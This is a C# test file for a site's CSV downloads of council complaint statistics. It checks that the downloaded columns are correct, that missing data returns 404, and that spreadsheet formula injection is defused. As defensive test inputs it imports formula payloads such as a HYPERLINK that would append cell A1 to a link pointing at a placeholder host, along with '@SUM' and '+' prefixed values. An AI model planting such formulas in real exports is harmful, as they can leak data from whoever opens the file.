using System.Net;
using Dapper;
using Microsoft.Extensions.DependencyInjection;
using Upheld.Csv;
using Upheld.Import;
using Upheld.Tests.Cli;
using Upheld.Tests.Import;

namespace Upheld.Tests.Web;

/// <summary>CSV downloads of the site's tables: what the page shows, parseable, licensed, and safe to open in a spreadsheet.</summary>
public sealed class DownloadsTests : SiteTestBase
{
    private async Task<List<CsvRecord>> Csv(string path)
    {
        var response = await Site.Client.GetAsync(path);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Contains("rel=\"license\"", response.Headers.GetValues("Link").Single());
        return CsvReader.Read(await response.Content.ReadAsStringAsync()).ToList();
    }

    [Fact]
    public async Task The_map_table_downloads_with_a_row_per_council_and_the_figures_on_screen()
    {
        var rows = await Csv("/maps/2019-20/compliance/upper.csv");

        Assert.Equal(["code", "name", "type", "year", "statistic", "figure", "rate", "numerator", "denominator", "average", "average_rate", "comparison", "interval_low", "interval_high"], rows[0].Fields);
        Assert.Equal(152, rows.Count);
        var worcestershire = rows.Single(r => r.Fields[0] == "E10000034").Fields;
        Assert.Equal(["E10000034", "Worcestershire", "County", "2019-20", "compliance", "92%"], worcestershire[..6]);
        Assert.Equal(["11", "12"], worcestershire[7..9]);
    }

    [Fact]
    public async Task The_year_download_is_the_command_lines_csv()
    {
        var response = await Site.Client.GetStringAsync("/years/2019-20/statistics.csv");

        Assert.Equal(CliRun.Of("stats", "--year", "2019-20", "--format", "csv", "--db", Site.Database.Description).Output, response);
    }

    [Fact]
    public async Task Text_that_looks_like_a_formula_is_kept_as_written_but_defused_in_the_download()
    {
        using (var folder = new ImportFolder().With("decisions.csv", "case_ref,authority_code,decision_date,outcome,summary",
                   "F1,E06000017,2019-09-01,upheld,\"=HYPERLINK(\"\"http://example.invalid\"\")\""))
        {
            Assert.True(new Importer(Site.Database).Import(folder.Path).Succeeded);
        }
        Site.Clock.Now += TimeSpan.FromMinutes(1);

        var rows = await Csv("/councils/E06000017/rutland/2019-20/decisions.csv");
        var page = await Site.Client.GetStringAsync("/councils/E06000017/rutland/2019-20");

        Assert.Equal("'=HYPERLINK(\"http://example.invalid\")", rows.Single(r => r.Fields[0] == "F1").Fields[^1]);
        Assert.Contains("=HYPERLINK(&quot;http://example.invalid&quot;)", page);
    }

    [Fact]
    public async Task Every_csv_route_defuses_every_text_field_case_references_included()
    {
        // A council name and free text that a spreadsheet would run; the slug of "+Rutland" is still "rutland".
        using (var folder = new ImportFolder()
                   .With("authorities.csv", "code,name", "E06000017,+Rutland")
                   .With("received.csv", "case_ref,authority_code,received_date,category,subcategory", "H1,E06000017,2019-06-01,Housing,@SUM(A1)")
                   .With("decisions.csv", "case_ref,authority_code,decision_date,category,subcategory,outcome,summary",
                       "H1,E06000017,2019-09-01,Housing,-1+2,upheld,\"=HYPERLINK(\"\"http://example.invalid\"\"&A1,\"\"open\"\")\""))
        {
            var result = new Importer(Site.Database).Import(folder.Path, replace: true);
            Assert.True(result.Succeeded, string.Join("\n", result.Problems.Lines()));
        }
        Site.Clock.Now += TimeSpan.FromMinutes(1);
        var values = new Dictionary<string, string>
        {
            ["code"] = "E06000017", ["slug"] = "rutland", ["year"] = "2019-20", ["statistic"] = "uphold", ["tier"] = "upper",
            ["type"] = "unitary", ["adjustment"] = "additive",
        };
        var routes = Site.Services.GetRequiredService<Microsoft.AspNetCore.Routing.EndpointDataSource>().Endpoints
            .OfType<Microsoft.AspNetCore.Routing.RouteEndpoint>().Select(e => e.RoutePattern.RawText!)
            .Where(r => r.EndsWith(".csv", StringComparison.Ordinal) && !r.StartsWith("/staff", StringComparison.Ordinal)).Distinct().ToList();
        Assert.True(routes.Count >= 10, string.Join(", ", routes));

        var defused = new List<string>();
        foreach (var route in routes)
        {
            var path = System.Text.RegularExpressions.Regex.Replace(route, "{([a-z]+)}", m => values[m.Groups[1].Value]);
            foreach (var field in (await Csv(path)).SelectMany(r => r.Fields))
            {
                Assert.False(CsvWriter.Text(field) != field && !double.TryParse(field, System.Globalization.NumberStyles.Float, System.Globalization.CultureInfo.InvariantCulture, out _),
                    $"{path}: '{field}' is not defused");
                if (field.StartsWith('\'')) defused.Add(field);
            }
        }

        Assert.Contains("'+Rutland", defused);
        Assert.Contains("'-1+2", defused);
        Assert.Contains("'=HYPERLINK(\"http://example.invalid\"&A1,\"open\")", defused);
    }

    [Fact]
    public void The_staff_case_sheets_defuse_every_text_field_case_references_included()
    {
        // Stored before case references were checked (docs/data-formats.md, "Import folder"), so still in old databases.
        using (var folder = new ImportFolder().With("received.csv", "case_ref,authority_code,received_date", "H1,E06000017,2019-06-01")
                   .With("decisions.csv", "case_ref,authority_code,decision_date,outcome", "H2,E06000017,2019-09-01,upheld"))
            Assert.True(new Importer(Site.Database).Import(folder.Path).Succeeded);
        using var connection = Site.Database.Connect();
        connection.Execute("UPDATE decisions SET case_ref = '+RT-CSV-010' WHERE case_ref = 'H2'");
        connection.Execute("UPDATE received SET case_ref = '=HYPERLINK(1)' WHERE case_ref = 'H1'");

        var decided = CsvReader.Read(System.Text.Encoding.UTF8.GetString(Upheld.Web.Staff.CouncilCases.Csv(connection, "decided", "E06000017", new FinancialYear(2019)))).Skip(1).ToList();
        var received = CsvReader.Read(System.Text.Encoding.UTF8.GetString(Upheld.Web.Staff.CouncilCases.Csv(connection, "received", "E06000017", new FinancialYear(2019)))).Skip(1).ToList();

        Assert.Contains(decided, r => r.Fields[0] == "'+RT-CSV-010");
        Assert.DoesNotContain(decided, r => r.Fields[0] == "+RT-CSV-010");
        Assert.NotEmpty(received);
        Assert.All(received, r => Assert.Equal("'=HYPERLINK(1)", r.Fields[0]));
    }

    [Theory]
    [InlineData("/maps/2020-21/uphold/lower.csv")]
    [InlineData("/maps/2019-20/happiness/lower.csv")]
    [InlineData("/years/2020-21/statistics.csv")]
    [InlineData("/councils/E06000017/rutland/2020-21/decisions.csv")]
    [InlineData("/councils/E06000017/wrong-slug/2019-20/decisions.csv")]
    public async Task Downloads_of_unknown_or_unpublished_things_are_not_found(string path) =>
        Assert.Equal(HttpStatusCode.NotFound, (await Site.Client.GetAsync(path)).StatusCode);
}
